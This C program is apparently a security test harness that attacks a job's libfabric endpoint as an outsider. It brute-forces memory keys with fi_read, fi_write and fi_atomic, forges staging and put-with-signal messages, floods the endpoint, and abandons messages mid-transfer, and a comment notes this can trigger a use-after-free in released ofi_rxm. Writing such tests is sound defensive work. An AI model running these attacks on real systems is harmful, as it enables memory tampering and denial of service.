/* An outsider against a PE's fabric endpoint (tests/tests/fabric/security_fabric.rs): a plain libfabric program that
 * knows only the endpoint's IP address and port (found in /proc/net/tcp, as any local user can) and none of the
 * job's secrets. It tries, one fresh endpoint per attempt (a wrong key makes the target drop the connection):
 *   - fi_read, fi_write and fi_atomic (FI_ATOMIC_WRITE of 0x1337, 8 bytes) at offsets 0 and 4096 with the old
 *     constant keys 0x4845 (heap) and 0x5953 (runtime words), the keys 0..8 and 4 random keys
 *     (each random key has a 2^-64 chance: a few exercise the refusal path, each costs a connection);
 *   - forged staging messages (kinds PUT and AMO with a plausible header, in the old 8-word layout and in the
 *     10-word one with a random token), and forged put-with-signal messages (kind 5, the 10-word header with a
 *     random token, then a guessed region key and the signal's offset) aimed at the heap's first bytes and the
 *     flag word after them;
 *   - cut messages: CUT_ROUNDS connections, each posting CUT_MSGS 64 KiB fi_send and as many fi_tsend (past rxm's
 *     eager limit: the target matches each to a receive, then reads its data from this side) and leaving before
 *     the target has read them, so that its receives matched to them break;
 *   - segmented messages cut off (SAR_ROUNDS processes, each with the sender's dynamic receive buffers off, as any
 *     sender may choose: 64 KiB messages then go in 16 KiB segments; each posts SAR_MSGS fi_send and fi_tsend and
 *     exits 0-2 ms later, without closing: the target has matched some to a receive and never gets the rest);
 *   - floods of messages for FLOOD_SECONDS each: 4 KiB fi_send, 4 KiB fi_tsend (tagged: the PEs post no tagged
 *     receive of their own), 64 KiB fi_send, 64 KiB fi_tsend (64 KiB: past rxm's eager limit, the rendezvous).
 * One line per attempt: "ATTEMPT <op> key=<k> off=<o>: SUCCESS" or ": refused (<why>)". The last line is
 * "SUMMARY attempts=<n> successes=<m> flood_sent=<f>" (<f>: messages of every flood). Exit status 0 unless set-up
 * failed (2).
 *
 * usage: fab_attack IP PORT FLOOD_SECONDS [PHASES]
 *   PHASES: any of k (keys), f (forged), c (cut messages), s (cut segmented messages), m (4 KiB fi_send flood), t
 *   (4 KiB fi_tsend flood), M (64 KiB fi_send flood), T (64 KiB fi_tsend flood); default kfcmtMT. S is one process
 *   of phase s (run by it).
 */
#define _GNU_SOURCE
#include <rdma/fabric.h>
#include <rdma/fi_atomic.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_errno.h>
#include <rdma/fi_rma.h>
#include <rdma/fi_tagged.h>
#include <stdint.h>
#include <sys/wait.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static const char *ip, *port;
static struct fi_info *info;
static struct fid_fabric *fab;
static struct fid_domain *dom;

struct conn {
	struct fid_ep *ep;
	struct fid_cq *cq;
	struct fid_av *av;
	fi_addr_t peer;
};

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec * 1e-9;
}

static int open_conn(struct conn *c)
{
	struct fi_cq_attr cqa = {.format = FI_CQ_FORMAT_CONTEXT, .wait_obj = FI_WAIT_NONE, .size = 1024};
	struct fi_av_attr ava = {.type = FI_AV_TABLE, .count = 1};
	memset(c, 0, sizeof *c);
	if (fi_cq_open(dom, &cqa, &c->cq, NULL) || fi_av_open(dom, &ava, &c->av, NULL) ||
	    fi_endpoint(dom, info, &c->ep, NULL) || fi_ep_bind(c->ep, &c->cq->fid, FI_TRANSMIT | FI_RECV) ||
	    fi_ep_bind(c->ep, &c->av->fid, 0) || fi_enable(c->ep))
		return -1;
	if (fi_av_insert(c->av, info->dest_addr, 1, &c->peer, 0, NULL) != 1)
		return -1;
	return 0;
}

static void close_conn(struct conn *c)
{
	if (c->ep)
		fi_close(&c->ep->fid);
	if (c->av)
		fi_close(&c->av->fid);
	if (c->cq)
		fi_close(&c->cq->fid);
}

/* Wait up to `secs` for one completion: 0 success, -1 error (why in `why`), 1 timeout. */
static int wait_one(struct conn *c, double secs, char *why, size_t n)
{
	double end = now() + secs;
	struct fi_cq_entry e;
	while (now() < end) {
		ssize_t r = fi_cq_read(c->cq, &e, 1);
		if (r == 1)
			return 0;
		if (r == -FI_EAVAIL) {
			struct fi_cq_err_entry err = {0};
			fi_cq_readerr(c->cq, &err, 0);
			snprintf(why, n, "%s", fi_strerror(err.err));
			return -1;
		}
		if (r != -FI_EAGAIN) {
			snprintf(why, n, "cq: %s", fi_strerror((int)-r));
			return -1;
		}
		usleep(100);
	}
	snprintf(why, n, "no completion in %.0f s", secs);
	return 1;
}

static int attempts, successes;

static void attempt(const char *op, uint64_t key, uint64_t off)
{
	struct conn c;
	char buf[64] = "PWNED by an outsider over libfabric";
	uint64_t val = 0x1337;
	char why[160] = "";
	ssize_t r;
	int rc;
	attempts++;
	if (open_conn(&c)) {
		printf("ATTEMPT %s key=%#llx off=%llu: refused (endpoint set-up failed)\n", op,
		       (unsigned long long)key, (unsigned long long)off);
		close_conn(&c);
		return;
	}
	double end = now() + 5;
	do {
		if (!strcmp(op, "read"))
			r = fi_read(c.ep, buf, sizeof buf, NULL, c.peer, off, key, NULL);
		else if (!strcmp(op, "write"))
			r = fi_write(c.ep, buf, sizeof buf, NULL, c.peer, off, key, NULL);
		else
			r = fi_atomic(c.ep, &val, 1, NULL, c.peer, off, key, FI_UINT64, FI_ATOMIC_WRITE, NULL);
		if (r == -FI_EAGAIN) {
			struct fi_cq_entry e;
			fi_cq_read(c.cq, &e, 1);
		}
	} while (r == -FI_EAGAIN && now() < end);
	if (r) {
		snprintf(why, sizeof why, "post: %s", fi_strerror((int)-r));
		rc = -1;
	} else {
		rc = wait_one(&c, 3, why, sizeof why);
	}
	if (rc == 0) {
		successes++;
		printf("ATTEMPT %s key=%#llx off=%llu: SUCCESS", op, (unsigned long long)key,
		       (unsigned long long)off);
		if (!strcmp(op, "read")) {
			printf(" read");
			for (int i = 0; i < 16; i++)
				printf(" %02x", (unsigned char)buf[i]);
		}
		printf("\n");
	} else {
		printf("ATTEMPT %s key=%#llx off=%llu: refused (%s)\n", op, (unsigned long long)key,
		       (unsigned long long)off, why);
	}
	fflush(stdout);
	close_conn(&c);
}

static uint64_t rnd64(void)
{
	uint64_t v = 0;
	FILE *f = fopen("/dev/urandom", "r");
	if (!f || fread(&v, sizeof v, 1, f) != 1)
		v = ((uint64_t)rand() << 32) ^ (uint64_t)rand();
	if (f)
		fclose(f);
	return v;
}

/* Send `len` bytes of `msg`; "SENT" once its send completed. */
static void forge(const char *what, const uint64_t *msg, size_t len)
{
	struct conn c;
	char why[160] = "";
	if (open_conn(&c)) {
		printf("FORGED %s: endpoint set-up failed\n", what);
		close_conn(&c);
		return;
	}
	ssize_t r;
	double end = now() + 5;
	do {
		r = fi_send(c.ep, msg, len, NULL, c.peer, NULL);
		if (r == -FI_EAGAIN) {
			struct fi_cq_entry e;
			fi_cq_read(c.cq, &e, 1);
		}
	} while (r == -FI_EAGAIN && now() < end);
	int rc = r ? -1 : wait_one(&c, 3, why, sizeof why);
	printf("FORGED %s: %s %s\n", what, rc == 0 ? "sent" : "not sent", why);
	fflush(stdout);
	/* Give the target time to take it in before the connection goes. */
	usleep(200 * 1000);
	close_conn(&c);
}

static void forged_messages(void)
{
	uint64_t m[10 + 8];
	const char payload[64] = "PWNED by a forged staging message";
	for (int from = 0; from < 2; from++) {
		for (int words = 8; words <= 10; words += 2) {
			char what[96];
			/* PUT of 64 bytes at offset 0: [kind, from, id, off, len, operand, cond, op] (+ token). */
			memset(m, 0, sizeof m);
			m[0] = 1, m[1] = from, m[2] = 1, m[3] = 0, m[4] = 64, m[7] = UINT64_MAX;
			if (words == 10)
				m[8] = rnd64(), m[9] = rnd64();
			memcpy(&m[words], payload, sizeof payload);
			snprintf(what, sizeof what, "PUT from=%d header=%d words", from, words);
			forge(what, m, words * 8 + sizeof payload);
			/* AMO Set (code 1, width 8) of 0x1337 at offset 4096. */
			memset(m, 0, sizeof m);
			m[0] = 3, m[1] = from, m[2] = 2, m[3] = 4096, m[4] = 1 | (8ull << 32), m[5] = 0x1337,
			m[7] = UINT64_MAX;
			if (words == 10)
				m[8] = rnd64(), m[9] = rnd64();
			snprintf(what, sizeof what, "AMO from=%d header=%d words", from, words);
			forge(what, m, words * 8);
		}
		/* PUT_SIGNAL of 64 bytes at offset 0, then Set 0x1337 at offset 64 of the region keyed k:
		 * [kind, from, id, off, len, operand, cond = op code, op] + token, then [key, signal offset, told writes'
		 * number = 0, their count = 0], data. */
		for (uint64_t k = 0; k < 3; k++) {
			char what[96];
			memset(m, 0, sizeof m);
			m[0] = 5, m[1] = from, m[2] = 3, m[3] = 0, m[4] = 64, m[5] = 0x1337, m[6] = 1 | (8ull << 32),
			m[7] = UINT64_MAX, m[8] = rnd64(), m[9] = rnd64();
			uint64_t pm[4 + 8];
			pm[0] = k == 2 ? rnd64() : k, pm[1] = 64, pm[2] = 0, pm[3] = 0;
			memcpy(&pm[4], payload, sizeof payload);
			uint64_t whole[10 + 4 + 8];
			memcpy(whole, m, 10 * 8);
			memcpy(&whole[10], pm, sizeof pm);
			snprintf(what, sizeof what, "PUT_SIGNAL from=%d key=%s", from, k == 2 ? "random" : k ? "1" : "0");
			forge(what, whole, sizeof whole);
		}
	}
}

/* Post message `i` of 64 KiB from `buf`, fi_send for even `i`, fi_tsend (tag `i`) for odd, reading the queue while
 * the provider says EAGAIN until `give_up`: 0 once posted. */
static ssize_t post_64k(struct conn *c, const char *buf, int i, double give_up)
{
	ssize_t p;
	while ((p = i % 2 ? fi_tsend(c->ep, buf, 64 * 1024, NULL, c->peer, (uint64_t)i, NULL)
			  : fi_send(c->ep, buf, 64 * 1024, NULL, c->peer, NULL)) == -FI_EAGAIN &&
	       now() < give_up) {
		struct fi_cq_entry e[16];
		fi_cq_read(c->cq, e, 16);
	}
	return p;
}

#define CUT_ROUNDS 12
#define CUT_MSGS 8

/* Cut messages (see the top): the messages posted. */
static long cut(void)
{
	static char buf[64 * 1024];
	long posted = 0;
	memset(buf, 0x5a, sizeof buf);
	for (int r = 0; r < CUT_ROUNDS; r++) {
		struct conn c;
		if (open_conn(&c))
			return posted;
		/* The first posts wait for the connection (EAGAIN meanwhile; reading the queue makes progress). */
		double give_up = now() + 2;
		for (int i = 0; i < 2 * CUT_MSGS; i++)
			if (post_64k(&c, buf, i, give_up) == 0)
				posted++;
		/* Long enough for the connection and the messages' headers to reach the target, not for their data. */
		double end = now() + 0.05;
		while (now() < end) {
			struct fi_cq_entry e[16];
			if (fi_cq_read(c.cq, e, 16) == -FI_EAVAIL) {
				struct fi_cq_err_entry err = {0};
				fi_cq_readerr(c.cq, &err, 0);
			}
		}
		close_conn(&c);
	}
	return posted;
}

#define SAR_ROUNDS 6
#define SAR_MSGS 32

/* One process of phase s (see the top): post, then leave mid-stream. */
static void sar_cut_once(void)
{
	static char buf[64 * 1024];
	struct conn c;
	memset(buf, 0x3c, sizeof buf);
	if (open_conn(&c))
		_exit(3);
	double give_up = now() + 1;
	for (int i = 0; i < 2 * SAR_MSGS; i++)
		if (post_64k(&c, buf, i, give_up))
			break;
	srand((unsigned)getpid() ^ (unsigned)(now() * 1e6));
	double end = now() + (rand() % 2000) * 1e-6;
	while (now() < end) {
		struct fi_cq_entry e[16];
		fi_cq_read(c.cq, e, 16);
	}
	/* Gone without a goodbye: the kernel closes the socket wherever the stream was. */
	_exit(0);
}

/* Phase s: SAR_ROUNDS processes of sar_cut_once (this program again, with phase S); how many ended as planned. */
static int sar_cut(void)
{
	int done = 0;
	for (int r = 0; r < SAR_ROUNDS; r++) {
		fflush(stdout);
		pid_t pid = fork();
		if (pid == 0) {
			/* Segments instead of a rendezvous for 16-128 KiB: what libfabric's tcp;ofi_rxm does without
			 * dynamic receive buffers (read at start-up, hence a new process). */
			setenv("FI_OFI_RXM_ENABLE_DYN_RBUF", "0", 1);
			execl("/proc/self/exe", "fab_attack", ip, port, "0", "S", (char *)NULL);
			_exit(4);
		}
		int st = 0;
		if (pid > 0 && waitpid(pid, &st, 0) == pid && WIFEXITED(st) && WEXITSTATUS(st) == 0)
			done++;
	}
	return done;
}

/* Read completions of the messages in flight (`*inflight` of them): -1 when one failed (the target dropped the
 * connection), else 0. */
static int reap(struct conn *c, long *inflight)
{
	struct fi_cq_entry e[64];
	ssize_t r = fi_cq_read(c->cq, e, 64);
	if (r > 0)
		*inflight -= r;
	else if (r == -FI_EAVAIL) {
		struct fi_cq_err_entry err = {0};
		fi_cq_readerr(c->cq, &err, 0);
		(*inflight)--;
		return -1;
	}
	return 0;
}

/* Messages of `len` bytes (at most 64 KiB; tagged: fi_tsend) for `secs` seconds, up to 64 in flight. */
static long flood(double secs, size_t len, int tagged)
{
	struct conn c;
	static char buf[64 * 1024];
	long sent = 0, inflight = 0;
	memset(buf, 0xa5, sizeof buf);
	if (len > sizeof buf)
		len = sizeof buf;
	if (open_conn(&c))
		return -1;
	double end = now() + secs;
	while (now() < end) {
		if (reap(&c, &inflight)) {
			/* The target dropped the connection: a new one. */
			close_conn(&c);
			if (open_conn(&c))
				return sent;
			inflight = 0;
		}
		if (inflight >= 64)
			continue;
		ssize_t s = tagged ? fi_tsend(c.ep, buf, len, NULL, c.peer, (uint64_t)sent, NULL)
				   : fi_send(c.ep, buf, len, NULL, c.peer, NULL);
		if (s == 0) {
			inflight++;
			sent++;
		}
	}
	/* A flood ends once its messages in flight are done: leaving mid-message is phase c's and s's attack (and
	 * leaving with requests the target has not read yet makes any released libfabric's ofi_rxm use a freed
	 * endpoint when it reads them: SECURITY.md). */
	double until = now() + 2;
	while (inflight > 0 && now() < until)
		reap(&c, &inflight);
	close_conn(&c);
	return sent;
}

int main(int argc, char **argv)
{
	if (argc != 4 && argc != 5) {
		fprintf(stderr, "usage: %s IP PORT FLOOD_SECONDS [PHASES]\n", argv[0]);
		return 2;
	}
	ip = argv[1], port = argv[2];
	const char *phases = argc == 5 ? argv[4] : "kfcmtMT";
	double flood_secs = atof(argv[3]);
	struct fi_info *hints = fi_allocinfo();
	hints->caps = FI_RMA | FI_ATOMIC | FI_MSG | FI_TAGGED | FI_READ | FI_WRITE | FI_SEND | FI_RECV;
	hints->ep_attr->type = FI_EP_RDM;
	hints->domain_attr->mr_mode = 0;
	/* A write or atomic completes once the target applied it (not once sent): its success means something. */
	hints->tx_attr->op_flags = FI_DELIVERY_COMPLETE;
	hints->fabric_attr->prov_name = strdup("tcp;ofi_rxm");
	int r = fi_getinfo(FI_VERSION(1, 9), ip, port, 0, hints, &info);
	if (r) {
		fprintf(stderr, "fi_getinfo(%s, %s): %s\n", ip, port, fi_strerror(-r));
		return 2;
	}
	if (fi_fabric(info->fabric_attr, &fab, NULL) || fi_domain(fab, info, &dom, NULL)) {
		fprintf(stderr, "fabric/domain set-up failed\n");
		return 2;
	}
	if (strchr(phases, 'S'))
		sar_cut_once();
	printf("TARGET %s:%s provider %s\n", ip, port, info->fabric_attr->prov_name);
	uint64_t keys[2 + 9 + 4];
	int nk = 0;
	keys[nk++] = 0x4845;
	keys[nk++] = 0x5953;
	for (uint64_t k = 0; k <= 8; k++)
		keys[nk++] = k;
	srand((unsigned)time(NULL) ^ (unsigned)getpid());
	for (int i = 0; i < 4; i++)
		keys[nk++] = rnd64();
	const char *ops[] = {"read", "write", "atomic"};
	if (strchr(phases, 'k'))
		for (int k = 0; k < nk; k++)
			for (int o = 0; o < 3; o++)
				for (uint64_t off = 0; off <= 4096; off += 4096)
					attempt(ops[o], keys[k], off);
	if (strchr(phases, 'f'))
		forged_messages();
	long sent = 0;
	if (strchr(phases, 'c')) {
		long n = cut();
		printf("CUT 65536 bytes: posted %ld\n", n);
		fflush(stdout);
	}
	if (strchr(phases, 's')) {
		int n = sar_cut();
		printf("SARCUT 65536 bytes in segments: %d of %d senders posted and left\n", n, SAR_ROUNDS);
		fflush(stdout);
	}
	static const struct {
		char phase;
		size_t len;
		int tagged;
	} floods[] = {{'m', 4096, 0}, {'t', 4096, 1}, {'M', 65536, 0}, {'T', 65536, 1}};
	for (int i = 0; i < 4; i++) {
		if (flood_secs <= 0 || !strchr(phases, floods[i].phase))
			continue;
		long n = flood(flood_secs, floods[i].len, floods[i].tagged);
		printf("FLOOD %s %zu bytes: sent %ld\n", floods[i].tagged ? "fi_tsend" : "fi_send", floods[i].len, n);
		fflush(stdout);
		if (n > 0)
			sent += n;
	}
	printf("SUMMARY attempts=%d successes=%d flood_sent=%ld\n", attempts, successes, sent);
	fflush(stdout);
	return 0;
}
